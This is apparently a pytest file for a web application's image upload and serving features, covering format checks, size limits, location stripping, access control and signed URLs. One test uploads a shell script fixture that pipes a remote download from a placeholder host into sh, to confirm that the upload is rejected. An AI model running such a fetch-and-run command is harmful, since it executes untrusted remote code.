"""Uploading, classifying, processing and serving images."""

from __future__ import annotations

import io
import os
import time
from pathlib import Path
from typing import Any

import httpx
import msgspec
from PIL import Image

from salon.lib import valkey as valkey_client
from salon.lib.events import user_log_key
from salon.media import storage
from salon.media.jobs import process_media
from tests.helpers import create_user
from tests.media.conftest import has_location, jpeg_with_location, png_bytes, upload


async def test_png_named_jpg_is_accepted_as_png_and_processed(
    client: httpx.AsyncClient, run_jobs: Any, settings: Any
) -> None:
    alice = await create_user(client, "alice")
    response = await upload(client, alice, png_bytes((40, 30)), filename="holiday.jpg", content_type="image/jpeg",
                            alt="  A red square  ")  # fmt: skip

    assert response.status_code == 201, response.text
    created = response.json()
    assert created["content_type"] == "image/png"
    assert created["status"] == "processing"
    assert (created["width"], created["height"], created["alt"]) == (40, 30, "A red square")
    assert created["url"] is None
    assert created["thumbnail_url"] is None

    await run_jobs()
    media = (await client.get(f"/api/v1/media/{created['id']}", headers=alice.headers)).json()
    assert media["status"] == "ready"
    assert media["content_type"] == "image/png"  # what was uploaded; the web copy is WebP
    web = await client.get(media["url"])
    assert web.status_code == 200
    assert web.headers["content-type"] == "image/webp"
    with Image.open(io.BytesIO(web.content)) as image:
        assert (image.format, image.size) == ("WEBP", (40, 30))
    thumbnail = await client.get(media["thumbnail_url"])
    with Image.open(io.BytesIO(thumbnail.content)) as image:
        assert image.format == "WEBP"
        assert max(image.size) <= settings.media_thumbnail_max_dimension

    log = await valkey_client.client().xrange(user_log_key(alice.id))
    processed = [msgspec.json.decode(fields["data"]) for _, fields in log if fields["event"] == "media.processed"]
    assert [event["media"]["status"] for event in processed] == ["ready"]


async def test_a_script_renamed_png_is_rejected_with_415(client: httpx.AsyncClient) -> None:
    alice = await create_user(client, "alice")
    script = b"#!/bin/sh\ncurl https://example.invalid/payload | sh\n"

    response = await upload(client, alice, script, filename="cat.png", content_type="image/png")

    assert response.status_code == 415
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "not an image" in response.json()["detail"]
    assert "image/png" in response.json()["accepted"]


async def test_other_image_formats_and_empty_files_are_refused(client: httpx.AsyncClient) -> None:
    alice = await create_user(client, "alice")
    bmp = io.BytesIO()
    Image.new("RGB", (4, 4)).save(bmp, "BMP")

    assert (await upload(client, alice, bmp.getvalue(), filename="a.png")).status_code == 415
    empty = await upload(client, alice, b"", filename="a.png")
    assert empty.status_code == 422
    assert empty.json()["field"] == "file"
    no_file = await client.post("/api/v1/media", data={"alt": "x"}, files={"other": ("a", b"b")}, headers=alice.headers)
    assert no_file.status_code == 400
    anonymous = await client.post("/api/v1/media", files={"file": ("a.png", png_bytes(), "image/png")})
    assert anonymous.status_code == 401


async def test_size_and_pixel_limits(client: httpx.AsyncClient, settings: Any) -> None:
    alice = await create_user(client, "alice")
    too_big = png_bytes() + b"\0" * settings.media_max_upload_bytes

    oversized = await upload(client, alice, too_big)
    huge = io.BytesIO()
    Image.new("1", (8000, 6000)).save(huge, "PNG")  # 48 megapixels in a few kilobytes
    too_many_pixels = await upload(client, alice, huge.getvalue())

    assert oversized.status_code == 413
    assert "MiB" in oversized.json()["detail"]
    assert oversized.json()["max_bytes"] == settings.media_max_upload_bytes
    assert too_many_pixels.status_code == 422
    assert "8000x6000" in too_many_pixels.json()["detail"]


async def test_location_is_stripped_and_the_upload_is_not_kept(
    client: httpx.AsyncClient, ready_media: Any, settings: Any
) -> None:
    alice = await create_user(client, "alice")
    photo = jpeg_with_location((40, 20), orientation=6)  # "turn 90 degrees to be upright"
    assert has_location(photo)

    media = await ready_media(alice, photo, filename="beach.jpg", content_type="image/jpeg")

    assert media["content_type"] == "image/jpeg"
    for url in (media["url"], media["thumbnail_url"]):
        served = (await client.get(url)).content
        assert not has_location(served)
        with Image.open(io.BytesIO(served)) as image:
            assert "exif" not in image.info
            assert image.size[1] > image.size[0]  # turned upright, then the orientation tag dropped
    assert (media["width"], media["height"]) == (20, 40)
    media_dir = Path(settings.data_dir) / "media" / media["id"]
    assert sorted(os.listdir(media_dir)) == sorted([storage.WEB, storage.THUMBNAIL])


async def test_animated_gif_stays_animated(client: httpx.AsyncClient, ready_media: Any) -> None:
    alice = await create_user(client, "alice")
    frames = [Image.new("RGB", (16, 16), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    gif = io.BytesIO()
    frames[0].save(gif, "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)

    media = await ready_media(alice, gif.getvalue(), filename="a.gif", content_type="image/gif")

    assert media["content_type"] == "image/gif"
    with Image.open(io.BytesIO((await client.get(media["url"])).content)) as image:
        assert image.n_frames == 3


async def test_a_damaged_image_fails_processing(client: httpx.AsyncClient) -> None:
    alice = await create_user(client, "alice")
    truncated = png_bytes((200, 200))[:-40]

    created = (await upload(client, alice, truncated)).json()
    await process_media({}, media_id=created["id"])
    media = (await client.get(f"/api/v1/media/{created['id']}", headers=alice.headers)).json()

    assert media["status"] == "failed"
    assert "could not be decoded" in media["failure_reason"]
    assert media["url"] is None


async def test_uploads_are_private_until_attached(client: httpx.AsyncClient, ready_media: Any) -> None:
    alice, bob = await create_user(client, "alice"), await create_user(client, "bob")
    media = await ready_media(alice)

    assert (await client.get(f"/api/v1/media/{media['id']}", headers=bob.headers)).status_code == 404
    assert (await client.get(f"/api/v1/media/{media['id']}")).status_code == 404
    assert (await client.get("/api/v1/media/not-an-id", headers=alice.headers)).status_code == 404


async def test_alt_text_is_changed_by_the_uploader_only(client: httpx.AsyncClient, ready_media: Any) -> None:
    alice, bob = await create_user(client, "alice"), await create_user(client, "bob")
    media = await ready_media(alice)

    changed = await client.patch(f"/api/v1/media/{media['id']}", json={"alt": " A cat "}, headers=alice.headers)
    by_bob = await client.patch(f"/api/v1/media/{media['id']}", json={"alt": "mine"}, headers=bob.headers)
    too_long = await client.patch(f"/api/v1/media/{media['id']}", json={"alt": "x" * 1501}, headers=alice.headers)

    assert changed.status_code == 200
    assert changed.json()["alt"] == "A cat"
    assert by_bob.status_code == 404
    assert too_long.status_code == 400


# Serving local files -----------------------------------------------------------------------------------------------


async def test_files_have_caching_headers_and_answer_range_requests(
    client: httpx.AsyncClient, ready_media: Any
) -> None:
    alice = await create_user(client, "alice")
    url = (await ready_media(alice, png_bytes((300, 200))))["url"]
    whole = await client.get(url)
    size = len(whole.content)

    first = await client.get(url, headers={"Range": "bytes=0-9"})
    tail = await client.get(url, headers={"Range": "bytes=-5"})
    open_ended = await client.get(url, headers={"Range": f"bytes={size - 3}-"})
    beyond = await client.get(url, headers={"Range": f"bytes={size}-"})
    stale_if_range = await client.get(url, headers={"Range": "bytes=0-9", "If-Range": '"other"'})
    cached = await client.get(url, headers={"If-None-Match": whole.headers["etag"]})

    assert whole.status_code == 200
    assert whole.headers["accept-ranges"] == "bytes"
    assert whole.headers["cache-control"].startswith("private, max-age=")
    assert int(whole.headers["cache-control"].split("max-age=")[1].split(",")[0]) > 0
    assert (first.status_code, first.content) == (206, whole.content[:10])
    assert first.headers["content-range"] == f"bytes 0-9/{size}"
    assert (tail.status_code, tail.content) == (206, whole.content[-5:])
    assert (open_ended.status_code, open_ended.content) == (206, whole.content[-3:])
    assert beyond.status_code == 416
    assert beyond.headers["content-range"] == f"bytes */{size}"
    assert (stale_if_range.status_code, stale_if_range.content) == (200, whole.content)
    assert cached.status_code == 304


async def test_file_urls_need_a_valid_unexpired_signature(client: httpx.AsyncClient, ready_media: Any) -> None:
    alice = await create_user(client, "alice")
    media = await ready_media(alice)
    path, _, query = media["url"].partition("?")
    params = dict(part.split("=", 1) for part in query.split("&"))
    backend = storage.get_storage()
    assert isinstance(backend, storage.LocalStorage)
    key = f"{media['id']}/{storage.WEB}"
    past = int(time.time()) - 10

    tampered = await client.get(path, params={**params, "signature": params["signature"][:-2] + "AA"})
    extended = await client.get(path, params={**params, "expires": str(int(params["expires"]) + 3600)})
    expired = await client.get(path, params={"expires": past, "signature": backend.signature(key, past)})
    other_file = await client.get(path.replace(storage.WEB, storage.THUMBNAIL), params=params)
    original = f"{media['id']}/{storage.ORIGINAL}"
    unserved = await client.get(f"{storage.FILES_PATH}/{original}", params={
        "expires": params["expires"], "signature": backend.signature(original, int(params["expires"]))})  # fmt: skip

    for response in (tampered, extended, expired, other_file):
        assert response.status_code == 403, response.text
        assert "GET /api/v1/media/" in response.json()["detail"]
    assert unserved.status_code == 404
